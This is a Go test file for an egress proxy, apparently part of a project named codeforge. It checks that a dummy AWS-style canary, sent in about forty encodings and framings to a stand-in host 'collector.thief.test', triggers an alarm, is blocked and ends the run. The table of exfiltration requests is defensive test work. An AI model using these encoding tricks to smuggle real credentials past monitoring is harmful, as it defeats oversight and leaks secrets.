package egress_test

import (
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"html"
	"io"
	"mime/multipart"
	"net/http"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/andybalholm/brotli"
	"github.com/klauspost/compress/zstd"

	"github.com/codeforge-mcp/codeforge/internal/testkit"
	"github.com/codeforge-mcp/codeforge/proxy/internal/policy"
	"github.com/codeforge-mcp/codeforge/proxy/internal/upstream"
	"github.com/codeforge-mcp/codeforge/proxy/ledger"
	"github.com/codeforge-mcp/codeforge/proxy/proxyapi"
)

// canary is the run's. It looks like the secret key of AWS.
const canary = "q7Zk3mVx9TpLw2RyBn8HdJ4sKfGc6WuEo1XaYv5M"

// beginWith registers a run with the canary.
func (r *rig) beginWith(generation uint64, canaries ...string) (end func() proxyapi.Receipt) {
	r.t.Helper()
	_, err := r.book.BeginLease(0, proxyapi.Registration{
		Generation: generation, Run: "run-1", Deadline: time.Now().Add(time.Minute), Canaries: canaries,
	})
	check(r.t, err)
	return func() proxyapi.Receipt {
		r.t.Helper()
		rec, err := r.book.EndLease(0, generation)
		check(r.t, err)
		return rec
	}
}

func packed(t testing.TB, text string, with func(io.Writer) io.WriteCloser) string {
	t.Helper()
	var b bytes.Buffer
	w := with(&b)
	_, err := io.WriteString(w, text)
	check(t, err)
	check(t, w.Close())
	return b.String()
}

func gzipWriter(w io.Writer) io.WriteCloser { return gzip.NewWriter(w) }

// theft is a request with the canary.
type theft struct {
	method, url, body string
	headers           []string // name, value
	chunked           int      // the size of the pieces of a body without a length
	in                string
}

// thefts are the canary in encodings and framings. host is where they go.
func thefts(t testing.TB, host, canary string) map[string]theft {
	at := "https://" + host
	b64 := base64.StdEncoding.EncodeToString
	wide := func(s string) string {
		var b []byte
		for _, u := range utf16.Encode([]rune(s)) {
			b = append(b, byte(u), byte(u>>8))
		}
		return string(b)
	}
	every := func(format string) string {
		var b strings.Builder
		for _, c := range []byte(canary) {
			fmt.Fprintf(&b, format, c)
		}
		return b.String()
	}
	var form bytes.Buffer
	parts := multipart.NewWriter(&form)
	check(t, parts.WriteField("note", "x "+canary+" y"))
	file, err := parts.CreateFormFile("f", "a.txt")
	check(t, err)
	_, _ = file.Write([]byte("text"))
	check(t, parts.Close())
	quoted, _ := json.Marshal(map[string]string{"k": "[production]\naws_secret_access_key = " + canary})
	twice, _ := json.Marshal(string(quoted))
	post := func(body string, headers ...string) theft {
		return theft{method: "POST", url: at + "/", body: body, headers: headers, in: "body"}
	}
	chunks := func(body string, size int) theft {
		return theft{method: "POST", url: at + "/", body: body, chunked: size, in: "body"}
	}
	return map[string]theft{
		"query":                   {method: "GET", url: at + "/?q=" + canary, in: "query"},
		"name of a parameter":     {method: "GET", url: at + "/?" + canary + "=1", in: "query"},
		"path":                    {method: "GET", url: at + "/a/" + canary + "/b", in: "path"},
		"path, percent":           {method: "GET", url: at + "/a/" + every("%%%02x"), in: "path"},
		"query, percent of all":   {method: "GET", url: at + "/?q=" + every("%%%02X"), in: "query"},
		"query, twice percent":    {method: "GET", url: at + "/?q=" + every("%%25%02X"), in: "query"},
		"query, base64 and url":   {method: "GET", url: at + "/?q=" + url.QueryEscape(b64([]byte("key="+canary))), in: "query"},
		"header":                  {method: "GET", url: at + "/", headers: []string{"X-Trace", canary}, in: "header"},
		"header, Basic":           {method: "GET", url: at + "/", headers: []string{"Authorization", "Basic " + b64([]byte("admin:"+canary))}, in: "header"},
		"header, Bearer":          {method: "GET", url: at + "/", headers: []string{"Authorization", "Bearer " + canary}, in: "header"},
		"cookie":                  {method: "GET", url: at + "/", headers: []string{"Cookie", "a=b; s=" + canary + "; c=d"}, in: "header"},
		"name of a header":        {method: "GET", url: at + "/", headers: []string{"X-" + canary, "1"}, in: "header"},
		"method":                  {method: strings.ToUpper("x") + canary, url: at + "/", in: "method"},
		"text":                    post("PROD_DB_PASSWORD=" + canary),
		"json":                    post(string(quoted), "Content-Type", "application/json"),
		"json in json":            post(string(twice), "Content-Type", "application/json"),
		"json, \\u of all":        post(`{"k":"`+every(`\u%04x`)+`"}`, "Content-Type", "application/json"),
		"html entities":           post(every("&#%d;"), "Content-Type", "text/html"),
		"html, escaped":           post(html.EscapeString("<a>"+canary), "Content-Type", "text/html"),
		"form":                    post(url.Values{"a": {canary}}.Encode(), "Content-Type", "application/x-www-form-urlencoded"),
		"form, percent of all":    post("a="+every("%%%02X"), "Content-Type", "application/x-www-form-urlencoded"),
		"multipart":               post(form.String(), "Content-Type", parts.FormDataContentType()),
		"base64":                  post(b64([]byte("a" + canary))),
		"base64, second boundary": post(b64([]byte("ab" + canary + "c"))),
		"base64url":               post(base64.RawURLEncoding.EncodeToString([]byte("abc" + canary))),
		"hex":                     post(hex.EncodeToString([]byte("dump:" + canary))),
		"hex, upper case":         post(strings.ToUpper(hex.EncodeToString([]byte(canary)))),
		"backslash x":             post(every(`\x%02x`)),
		"utf-16":                  post(wide("key: " + canary)),
		"base64 of utf-16":        post(b64([]byte(wide("key: " + canary)))),
		"gzip":                    post(packed(t, "x "+canary, gzipWriter), "Content-Encoding", "gzip"),
		"gzip of base64":          post(packed(t, b64([]byte("12"+canary)), gzipWriter), "Content-Encoding", "gzip"),
		"deflate":                 post(packed(t, canary, func(w io.Writer) io.WriteCloser { return zlib.NewWriter(w) }), "Content-Encoding", "deflate"),
		"brotli":                  post(packed(t, canary, func(w io.Writer) io.WriteCloser { return brotli.NewWriter(w) }), "Content-Encoding", "br"),
		"zstd": post(packed(t, canary, func(w io.Writer) io.WriteCloser {
			z, err := zstd.NewWriter(w)
			check(t, err)
			return z
		}), "Content-Encoding", "zstd"),
		"gzip twice":        post(packed(t, packed(t, canary, gzipWriter), gzipWriter), "Content-Encoding", "gzip, gzip"),
		"chunks of 1":       chunks("x"+canary+"y", 1),
		"chunks of 7":       chunks(b64([]byte("zz"+canary)), 7),
		"behind a megabyte": chunks(strings.Repeat("filler ", 150_000)+canary+strings.Repeat(" more", 100_000), 8<<10),
		"PUT":               {method: "PUT", url: at + "/", body: canary, in: "body"},
	}
}

// pieces is a body that is written in pieces, each flushed on its own.
type pieces struct {
	text string
	size int
}

func (p *pieces) Read(b []byte) (int, error) {
	if p.text == "" {
		return 0, io.EOF
	}
	n := copy(b[:min(len(b), p.size)], p.text)
	p.text = p.text[n:]
	return n, nil
}

func (s theft) request(t testing.TB) *http.Request {
	t.Helper()
	var body io.Reader
	switch {
	case s.chunked > 0:
		body = &pieces{s.body, s.chunked}
	case s.body != "":
		body = strings.NewReader(s.body)
	}
	req, err := http.NewRequestWithContext(t.Context(), s.method, s.url, body)
	check(t, err)
	for i := 0; i < len(s.headers); i += 2 {
		req.Header[s.headers[i]] = []string{s.headers[i+1]}
	}
	return req
}

// TestCanary: a request that carries the run's canary, in any encoding and framing, to a host of the catalog or to any
// other, is an alarm: it does not leave whole, and its run may send nothing more.
// Promise: canaries
func TestCanary(t *testing.T) {
	for _, host := range []string{demoHost, "collector.thief.test"} {
		for _, h2 := range []bool{false, true} {
			t.Run(fmt.Sprintf("%s/h2=%t", host, h2), func(t *testing.T) {
				t.Parallel()
				var records, generation atomic.Int64
				r := newRig(t, setup{ledger: func(e ledger.Entry) error {
					if e.Alarm != nil {
						records.Add(1)
					}
					return nil
				}})
				var up seen
				r.upstreams.https(up.echo())
				all := thefts(t, host, canary)
				if len(all) < 30 {
					t.Fatalf("%d ways, want 30", len(all))
				}
				for name, s := range all {
					if host != demoHost && name == "behind a megabyte" || name == "method" && !h2 {
						continue // of what goes nowhere only the beginning is searched, and HTTP/1 has no such methods
					}
					t.Run(name, func(t *testing.T) {
						end := r.beginWith(uint64(generation.Add(1)), canary)
						r.steal(t, s, h2, host, proxyapi.AlarmCanary, &up)
						if rec := end(); rec.Alarm == nil || rec.Alarm.Kind != proxyapi.AlarmCanary {
							t.Errorf("receipt %+v", rec.Alarm)
						}
						if got := records.Load(); got != generation.Load() {
							t.Errorf("%d records of %d alarms", got, generation.Load())
						}
					})
				}
			})
		}
	}
}

// steal sends a theft and expects one alarm, and the end of the run.
func (r *rig) steal(t *testing.T, s theft, h2 bool, host, kind string, up *seen) {
	t.Helper()
	before := up.count()
	events, stop := r.journal.Subscribe(proxyapi.AlarmEvents)
	defer stop()
	client := r.client(h2)
	if resp, err := client.Do(s.request(t)); err == nil {
		if resp.StatusCode == http.StatusOK {
			t.Errorf("it was answered: %s", body(t, resp))
		}
		resp.Body.Close()
	}
	select {
	case e := <-events:
		if a := e.Alarm; a == nil || a.Kind != kind || a.In != s.in || a.Run != "run-1" || a.Host != host {
			t.Errorf("alarm %+v", a)
		}
	case <-time.After(testkit.Patience):
		t.Fatal("no alarm")
	}
	for _, text := range up.texts()[before:] {
		if strings.Contains(text, s.body) && s.body != "" {
			t.Error("the upstream has the whole body")
		}
	}
	if resp, err := client.Get("https://" + demoHost + "/"); err == nil {
		resp.Body.Close()
		if resp.StatusCode == http.StatusOK {
			t.Error("the run goes on")
		}
	}
	if !strings.Contains(r.logs.String(), "[alarm]") {
		t.Errorf("log:\n%s", r.logs.String())
	}
}

// TestCredentialAlarm: the value of a credential is the same alarm, for which code knows a name only, and no canary of
// its own is needed for it.
// Promise: canaries
func TestCredentialAlarm(t *testing.T) {
	r := newRig(t, setup{})
	var up seen
	r.upstreams.https(up.echo())
	for i, host := range []string{demoHost, "collector.thief.test"} {
		end := r.beginWith(uint64(i + 1))
		r.steal(t, theft{method: "POST", url: "https://" + host + "/", body: "k=" + hex.EncodeToString([]byte(secretValue)), in: "body"},
			false, host, proxyapi.AlarmCredential, &up)
		if a := end().Alarm; a == nil || a.Name != tokenName {
			t.Errorf("receipt %+v", a)
		}
	}
}

// TestNoAlarm: what is not the run's own canary is none, nor is a token name, a piece of a canary, or one that another
// run has.
// Promise: canaries
func TestNoAlarm(t *testing.T) {
	r := newRig(t, setup{})
	var up seen
	r.upstreams.https(up.echo())
	end := r.beginWith(1, canary)
	other := strings.ToUpper(canary[20:]) + canary[:20]
	for name, s := range thefts(t, demoHost, other) {
		resp, err := r.client(false).Do(s.request(t))
		check(t, err)
		if text := body(t, resp); resp.StatusCode == http.StatusForbidden {
			t.Errorf("%s: %s", name, text)
		}
	}
	for _, text := range []string{canary[:30], canary[10:], tokenName, strings.Repeat("ab", 500)} {
		resp, err := r.client(false).Post("https://"+demoHost+"/", "text/plain", strings.NewReader(text))
		check(t, err)
		if got := body(t, resp); resp.StatusCode != http.StatusOK {
			t.Errorf("%s: %s", text, got)
		}
	}
	if rec := end(); rec.Alarm != nil {
		t.Errorf("%+v", rec.Alarm)
	}
}

// TestNoAlarmForNames: a request with names that is refused after credentials took their places is not an alarm.
func TestNoAlarmForNames(t *testing.T) {
	for name, c := range map[string]struct{ api, kind, body, code string }{
		"an ambiguous body": {fieldAPI, "application/json", `{"k":"` + tokenName + `","K":1}`, policy.CodeAmbiguous},
		"an address that is not public": {
			strings.Replace(fieldAPI, `"allow_private": ["127.0.0.0/8"]`, `"allow_private": ["10.0.0.0/8"]`, 1),
			"application/json", `{"k":"` + tokenName + `"}`, upstream.CodeAddress,
		},
	} {
		r := newRig(t, setup{apis: map[string]string{"demo": c.api}})
		r.upstreams.https(http.HandlerFunc(func(http.ResponseWriter, *http.Request) {}))
		end := r.begin()
		q, err := http.NewRequest(http.MethodPost, "https://"+demoHost+"/?k="+tokenName, strings.NewReader(c.body))
		check(t, err)
		q.Header.Set("Content-Type", c.kind)
		q.Header.Set("Authorization", "Bearer "+tokenName)
		resp, err := r.client(false).Do(q)
		check(t, err)
		if got := refusal(t, resp); got.Code != c.code {
			t.Errorf("%s: %+v", name, got)
		}
		if rec := end(); rec.Alarm != nil {
			t.Errorf("%s: %+v", name, rec.Alarm)
		}
	}
}

// TestAlarmBehindMistake: a canary in the part of a body behind a mistake, at which the search for token names stopped,
// is an alarm.
// Promise: canaries
func TestAlarmBehindMistake(t *testing.T) {
	r := newRig(t, setup{apis: map[string]string{"demo": fieldAPI}})
	r.upstreams.https(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { t.Error("the request left") }))
	end := r.beginWith(1, canary)
	text := "--x\r\nContent-Disposition: form-data; name=\"k\"; name=\"k\"\r\n\r\n" + tokenName + "\r\n" +
		"--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n" + strings.Repeat("filler ", 30<<10) + canary + "\r\n--x--\r\n"
	q, err := http.NewRequest(http.MethodPost, "https://"+demoHost+"/", strings.NewReader(text))
	check(t, err)
	q.Header.Set("Content-Type", "multipart/form-data; boundary=x")
	if resp, err := r.client(false).Do(q); err == nil {
		if got := refusal(t, resp); got.Code != policy.CodeAmbiguous {
			t.Errorf("%+v", got)
		}
	}
	if rec := end(); rec.Alarm == nil || rec.Alarm.Kind != proxyapi.AlarmCanary || rec.Alarm.In != "body" {
		t.Errorf("receipt %+v", rec.Alarm)
	}
}
